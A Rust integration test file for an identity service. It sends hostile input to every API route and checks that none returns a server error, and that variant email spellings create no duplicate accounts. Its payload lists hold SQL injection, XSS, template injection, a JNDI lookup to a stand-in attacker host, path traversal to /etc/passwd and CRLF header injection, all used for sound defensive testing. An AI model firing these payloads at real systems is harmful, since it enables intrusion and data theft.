//! Hostile input on every route of the OpenAPI document: malformed, huge and deeply nested
//! JSON, duplicate keys, NUL bytes, injection strings, wrong types, bad path and query values,
//! and email spellings. Every answer is a 4xx or a correct success; none is a 5xx.

use axum::body::Body;
use axum::http::{Method, Request};
use identity_testkit::TestApp;
use serde_json::{Value, json};

use crate::{PASSWORD, app_with, figure};

/// One route's world: a fresh user who owns a fresh org, with a pending invitation, a custom
/// role and a second member, so every path parameter has something real to point at.
struct World {
    token: String,
    refresh: String,
    email: String,
    org: String,
    invitation: String,
    member: String,
    /// A session of the member (for /users/{id}/sessions/{sid}) that the owner's
    /// /me/sessions/{id} cannot reach.
    session: String,
    /// An OAuth client of the org, and its one secret's id.
    client: String,
    secret: String,
    /// A webhook endpoint of the org, and the delivery of its test event.
    webhook: String,
    delivery: String,
    /// A pending domain claim of the org.
    domain: String,
}

async fn world(app: &TestApp, n: usize) -> World {
    let email = format!("ada{n}@example.com");
    let (token, refresh) = app.signed_in(&email, PASSWORD).await;
    let call = |method: Method, path: String, body: Value| {
        let token = token.clone();
        async move { app.call(method, path, Some(body), Some(&token)).await }
    };
    let org = call(Method::POST, "/orgs".into(), json!({"name": format!("Org {n}")})).await.json["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let (member_token, _) = app.signed_in(&format!("bob{n}@example.com"), PASSWORD).await;
    let member_claims = app.state.jwt().verify(&member_token).unwrap();
    let member = member_claims.sub;
    app.add_member(org.parse().unwrap(), member, &["member"]).await;
    let invited =
        call(Method::POST, format!("/orgs/{org}/invitations"), json!({"email": format!("inv{n}@example.com")})).await;
    let role =
        call(Method::POST, format!("/orgs/{org}/roles"), json!({"name": "support", "permissions": ["members:read"]}))
            .await;
    assert_eq!((invited.status.as_u16(), role.status.as_u16()), (201, 201), "{} {}", invited.json, role.json);
    let client = call(Method::POST, format!("/orgs/{org}/clients"), json!({"name": "c", "permissions": []})).await;
    assert_eq!(client.status, 201, "{}", client.json);
    let webhook =
        call(Method::POST, format!("/orgs/{org}/webhooks"), json!({"url": "https://hooks.example.com/in"})).await;
    assert_eq!(webhook.status, 201, "{}", webhook.json);
    let webhook = webhook.json["id"].as_str().unwrap().to_owned();
    let delivery = call(Method::POST, format!("/orgs/{org}/webhooks/{webhook}/test"), json!({})).await;
    assert_eq!(delivery.status, 202, "{}", delivery.json);
    let domain =
        call(Method::POST, format!("/orgs/{org}/domains"), json!({"domain": format!("org{n}.example.com")})).await;
    assert_eq!(domain.status, 201, "{}", domain.json);
    World {
        domain: domain.json["id"].as_str().unwrap().to_owned(),
        webhook,
        delivery: delivery.json["id"].as_str().unwrap().to_owned(),
        client: client.json["client_id"].as_str().unwrap().to_owned(),
        secret: client.json["secrets"][0]["id"].as_str().unwrap().to_owned(),
        token,
        refresh,
        email,
        org,
        invitation: invited.json["id"].as_str().unwrap().to_owned(),
        member: member.to_string(),
        session: member_claims.sid.to_string(),
    }
}

/// A valid body for each request schema, to put one hostile value into at a time.
fn valid_body(schema: &str, w: &World) -> Value {
    let token = "A".repeat(43);
    match schema {
        "LoginRequest" => json!({"email": w.email, "password": PASSWORD}),
        "ForgotRequest" => json!({"email": w.email}),
        "ResetRequest" => json!({"token": token, "new_password": "another password"}),
        "RefreshRequest" => json!({"refresh_token": w.refresh}),
        "RegisterRequest" => json!({"email": "new@example.com", "password": PASSWORD, "name": "New"}),
        "TokenRequest" => json!({"token": token}),
        "AcceptRequest" => json!({"token": token, "name": "New", "password": PASSWORD}),
        "ChangePasswordRequest" => json!({"current_password": "wrong password", "new_password": "another password"}),
        "CreateOrg" | "UpdateOrg" => json!({"name": "Renamed", "slug": "renamed"}),
        "CreateInvitation" => json!({"email": "someone@example.com", "roles": ["member"], "expires_in_days": 3}),
        "SetRoles" => json!({"roles": ["member"]}),
        "CreateRole" | "UpdateRole" => json!({"name": "auditor", "description": "d", "permissions": ["org:read"]}),
        "UpdateUser" => json!({"name": "Renamed"}),
        "UpdateProfile" => json!({"name": "Renamed"}),
        "ChangeEmailRequest" => json!({"new_email": "moved@example.com", "password": PASSWORD}),
        // A wrong password, so the account outlives the route's run.
        "DeleteAccountRequest" => json!({"password": "wrong password"}),
        "SetLimits" => json!({"max_members": 10}),
        "MfaVerifyRequest" => json!({"mfa_token": token, "code": "123456"}),
        "VerifyTotpRequest" => json!({"code": "123456"}),
        // A wrong password: enrolment, removal and new codes stay undone.
        "StepUpRequest" => json!({"password": "wrong password"}),
        "CreateApiKey" => json!({"name": "ci", "permissions": ["org:read"], "expires_at": "2999-01-01T00:00:00Z"}),
        "UpdateApiKey" => json!({"name": "renamed", "permissions": ["org:read"]}),
        "RotateApiKey" => json!({"overlap_seconds": 60}),
        "CreateClient" => json!({"name": "backend", "permissions": ["org:read"], "access_token_ttl_seconds": 600}),
        "UpdateClient" => json!({"name": "renamed", "permissions": ["org:read"], "access_token_ttl_seconds": 300}),
        "CreateWebhook" => {
            json!({"url": "https://hooks.example.com/in", "description": "d", "event_types": ["role.created"]})
        }
        "UpdateWebhook" => {
            json!({"url": "https://hooks.example.com/2", "description": "d", "event_types": [], "enabled": true})
        }
        "RotateWebhookSecret" => json!({"overlap_seconds": 60}),
        "CreateDomain" => json!({"domain": "claimed.example.com"}),
        "UpdateDomain" => json!({"enrollment_mode": "invitation"}),
        // An issuer this deployment may not reach (it is not loopback-local): refused at
        // discovery, after every field was checked.
        "CreateConnection" => {
            json!({"issuer": "https://idp.example.com", "client_id": "identity-app", "client_secret": "s3cret"})
        }
        "UpdateConnection" => json!({"name": "Okta EU", "sso_required": true}),
        other => panic!("no valid body for {other}: add one"),
    }
}

/// Values that have broken parsers, queries and templates somewhere.
fn hostile_values() -> Vec<Value> {
    let mut deep = json!("x");
    for _ in 0..200 {
        deep = json!([deep]);
    }
    let mut values: Vec<Value> = [
        "' OR '1'='1' --",
        "'; DROP TABLE users; --",
        "\" OR \"\"=\"",
        "1; SELECT pg_sleep(10)",
        "%",
        "_",
        "\\",
        "a\u{0}b",
        "\u{0}",
        "\r\nX-Injected: 1",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://evil.example/x}",
        "../../../../etc/passwd",
        "\u{202E}evil",
        "\u{FEFF}",
        "",
        " ",
        "ｆｕｌｌｗｉｄｔｈ",
        "e\u{301}\u{301}\u{301}\u{301}",
        "null",
        "-1",
        "1e309",
    ]
    .into_iter()
    .map(Value::from)
    .collect();
    values.extend([
        Value::from("😀".repeat(300)),
        Value::from("x".repeat(20_000)),
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5e308),
        json!(u64::MAX),
        json!(i64::MIN),
        json!([]),
        json!({}),
        json!(["a", 1, null]),
        json!({"$ne": null}),
        json!(["a\u{0}b"]),
        json!(["' OR '1'='1", "member"]),
        json!(["member", "member"]),
        deep,
    ]);
    values
}

/// Whole bodies that are not what any route expects.
fn hostile_bodies(valid: &Value) -> Vec<Vec<u8>> {
    let mut bodies: Vec<Vec<u8>> = [
        "",
        "{",
        "}",
        "[",
        "null",
        "[]",
        "\"x\"",
        "1",
        "{\"a\":}",
        "{'a': 1}",
        "{} trailing",
        "{}{}",
        "{\"a\":1,}",
        "{\"a\" 1}",
        "NaN",
        "{\"a\":NaN}",
        "{\"a\":Infinity}",
        "\u{0}",
        "{\"a\":\"\u{0}\"}",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();
    bodies.push(b"{\"name\":\"\xff\xfe\"}".to_vec());
    bodies.push([b"\xef\xbb\xbf".as_slice(), valid.to_string().as_bytes()].concat());
    bodies.push(format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes());
    bodies.push(format!("{}1{}", "{\"a\":".repeat(20_000), "}".repeat(20_000)).into_bytes());
    bodies.push(format!("{{\"name\":\"{}\"}}", "x".repeat(70 * 1024)).into_bytes());
    bodies.push(format!("[{}0]", "0,".repeat(30_000)).into_bytes());
    // Each field given twice, the second time with something else.
    if let Value::Object(fields) = valid {
        let mut text = valid.to_string();
        text.pop();
        for key in fields.keys() {
            text.push_str(&format!(",\"{key}\":\"second\""));
        }
        text.push('}');
        bodies.push(text.into_bytes());
    }
    bodies
}

const PATH_VALUES: [&str; 12] = [
    "%27%20OR%20%271%27%3D%271",
    "%00",
    "..%2F..%2Fetc%2Fpasswd",
    "-1",
    "1e3",
    "00000000-0000-0000-0000-000000000000",
    "FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF",
    "%F0%9F%98%80",
    "%E2%80%AE",
    "null",
    "%20",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
];

const QUERY_VALUES: [&str; 10] =
    ["0", "-1", "1000000", "abc", "1e3", "%00", "%27%3B--", "", "18446744073709551616", "A%2F%2F"];

#[derive(Default)]
struct Tally {
    requests: usize,
    server_errors: Vec<String>,
    /// The operation being tried answers its 4xx as HTML pages.
    html: bool,
}

impl Tally {
    async fn send(&mut self, app: &TestApp, label: String, request: Request<Body>) {
        let res = app.send(request).await;
        self.requests += 1;
        if res.status.is_server_error() {
            self.server_errors.push(format!("{label}: {} {}", res.status, res.json));
        } else if res.status.is_client_error() && res.status != 404 && res.status != 405 {
            // Every refusal is an RFC 9457 problem; a browser's endpoint (the sign-in's start,
            // the sign-out) answers its refusals as the page it documents.
            let expected = if self.html { "text/html; charset=utf-8" } else { "application/problem+json" };
            assert_eq!(res.header("content-type"), Some(expected), "{label}");
        }
    }
}

fn request(method: &str, uri: &str, token: &str, content_type: Option<&str>, body: Vec<u8>) -> Request<Body> {
    let mut builder = Request::builder().method(method).uri(uri).header("authorization", format!("Bearer {token}"));
    if let Some(ct) = content_type {
        builder = builder.header("content-type", ct);
    }
    builder.body(Body::from(body)).unwrap()
}

fn fill(path: &str, w: &World) -> String {
    path.replace("{org}", &w.org)
        .replace("{user}", &w.member)
        .replace("{role}", "support")
        .replace(
            "{id}",
            if path.starts_with("/users/") {
                &w.member
            } else if path.starts_with("/me/sessions/") {
                &w.session
            } else {
                &w.invitation
            },
        )
        .replace("{sid}", &w.session)
        .replace("{client_id}", &w.client)
        .replace("{secret_id}", &w.secret)
        .replace("{webhook_id}", &w.webhook)
        .replace("{domain_id}", &w.domain)
        .replace("{delivery_id}", &w.delivery)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_input_on_every_route_gets_no_server_error() {
    let app = app_with(&[]).await;
    let doc: Value = serde_json::from_str(&identity_cli::openapi_json()).unwrap();
    // The admin routes are in reach of the hostile input too.
    let mut tally = Tally::default();
    let mut n = 0;
    let mut routes = 0;
    for (path, ops) in doc["paths"].as_object().unwrap() {
        for (method, op) in ops.as_object().unwrap() {
            n += 1;
            routes += 1;
            let w = world(&app, n).await;
            app.sql(&format!("UPDATE users SET is_platform_admin = true WHERE email = '{}'", w.email)).await;
            let method = method.to_uppercase();
            let uri = fill(path, &w);
            tally.html = op["responses"]
                .as_object()
                .unwrap()
                .iter()
                .any(|(status, r)| status.starts_with('4') && r["content"]["text/html"].is_object());
            let schema = op["requestBody"]["content"]["application/json"]["schema"]["$ref"]
                .as_str()
                .map(|r| r.rsplit('/').next().unwrap().to_owned());
            if let Some(schema) = schema {
                let valid = valid_body(&schema, &w);
                let fields: Vec<String> =
                    doc["components"]["schemas"][&schema]["properties"].as_object().unwrap().keys().cloned().collect();
                for field in &fields {
                    for value in hostile_values() {
                        let mut body = valid.clone();
                        body[field] = value;
                        let label = format!("{method} {path} {field}");
                        let req =
                            request(&method, &uri, &w.token, Some("application/json"), body.to_string().into_bytes());
                        tally.send(&app, label, req).await;
                    }
                }
                for body in hostile_bodies(&valid) {
                    let label = format!("{method} {path} body {:.40}", String::from_utf8_lossy(&body));
                    tally.send(&app, label, request(&method, &uri, &w.token, Some("application/json"), body)).await;
                }
                for ct in [
                    None,
                    Some("text/plain"),
                    Some("application/json; charset=utf-16"),
                    Some("application/x-www-form-urlencoded"),
                    Some("application/json, text/plain"),
                    Some("application/merge-patch+json"),
                    Some(""),
                ] {
                    let label = format!("{method} {path} content-type {ct:?}");
                    tally.send(&app, label, request(&method, &uri, &w.token, ct, valid.to_string().into_bytes())).await;
                }
            }
            // Path parameters, one at a time.
            for param in ["{org}", "{user}", "{role}", "{id}", "{sid}"].into_iter().filter(|p| path.contains(p)) {
                for value in PATH_VALUES {
                    let uri = fill(&path.replace(param, value), &w);
                    let body = schema_body(op, &w);
                    tally
                        .send(
                            &app,
                            format!("{method} {path} {param}={value}"),
                            request(&method, &uri, &w.token, Some("application/json"), body),
                        )
                        .await;
                }
            }
            // Query parameters, one at a time, and one nobody declared.
            let mut names: Vec<String> = op["parameters"]
                .as_array()
                .into_iter()
                .flatten()
                .filter(|p| p["in"] == "query")
                .map(|p| p["name"].as_str().unwrap().to_owned())
                .collect();
            if method == "GET" {
                names.push("undeclared".into());
            }
            for name in names {
                for value in QUERY_VALUES {
                    let uri = format!("{uri}?{name}={value}");
                    tally
                        .send(
                            &app,
                            format!("{method} {path}?{name}={value}"),
                            request(&method, &uri, &w.token, None, vec![]),
                        )
                        .await;
                }
                let uri = format!("{uri}?{name}=1&{name}=2");
                tally
                    .send(&app, format!("{method} {path}?{name} twice"), request(&method, &uri, &w.token, None, vec![]))
                    .await;
            }
        }
    }
    figure(format!(
        "{} bad inputs across {routes} routes, {} server errors",
        tally.requests,
        tally.server_errors.len()
    ));
    assert!(tally.server_errors.is_empty(), "{:#?}", tally.server_errors);
}

/// The operation's valid body as bytes; empty for an operation without one.
fn schema_body(op: &Value, w: &World) -> Vec<u8> {
    op["requestBody"]["content"]["application/json"]["schema"]["$ref"]
        .as_str()
        .map(|r| valid_body(r.rsplit('/').next().unwrap(), w).to_string().into_bytes())
        .unwrap_or_default()
}

/// Spellings of two mailboxes: each registers one account at most, stored canonical; the
/// spellings no mailbox has (invisible characters, line breaks) are refused.
#[tokio::test]
async fn email_spellings_make_no_duplicate_accounts() {
    let app = app_with(&[]).await;
    let variants = [
        ("zoe@example.com", 202),
        ("ZOE@EXAMPLE.COM", 202),
        ("Zoe@Example.Com", 202),
        (" zoe@example.com ", 202),
        ("\u{FF5A}\u{FF4F}\u{FF45}@example.com", 202),
        ("zoe\u{FF20}example.com", 202),
        ("zoe@\u{FF45}xample.com", 202),
        ("zoe\u{200B}@example.com", 422),
        ("zoe@exa\u{200D}mple.com", 422),
        ("zoe@example.com\r\nBcc: eve@example.com", 422),
        ("zoe@example.com\n", 422),
        ("zoe@example.com.", 422),
        ("zoe\u{0}@example.com", 422),
        ("\"zoe\"@example.com", 422),
        ("zoe@[127.0.0.1]", 422),
        ("zo\u{00EB}@b\u{00FC}cher.de", 202),
        ("ZO\u{00CB}@B\u{00DC}CHER.DE", 202),
        ("zoe\u{0308}@bu\u{0308}cher.de", 202),
        ("zo\u{00EB}@xn--bcher-kva.de", 202),
        ("zo\u{00EB}@XN--BCHER-KVA.DE", 202),
    ];
    for (email, status) in variants {
        let res = app.post("/auth/register", json!({"email": email, "password": PASSWORD, "name": "Zoe"})).await;
        assert_eq!(res.status, status, "{email:?}: {}", res.json);
    }
    let rows = app.sql("SELECT email FROM users ORDER BY email").await;
    let emails: Vec<String> = rows.iter().map(|r| r.get(0)).collect();
    assert_eq!(emails, ["zoe@example.com", "zo\u{00EB}@xn--bcher-kva.de"]);
    // Every spelling signs in to its one account.
    for (email, status) in variants {
        if status == 202 {
            let res = app.post("/auth/login", json!({"email": email, "password": PASSWORD})).await;
            assert_eq!(res.status, 200, "{email:?}");
        }
    }
    figure(format!(
        "{} spellings of 2 mailboxes (case, fullwidth, zero-width, IDN, NFD, CRLF, NUL): 2 accounts, 0 duplicates, {} refused",
        variants.len(),
        variants.iter().filter(|(_, s)| *s == 422).count()
    ));
}
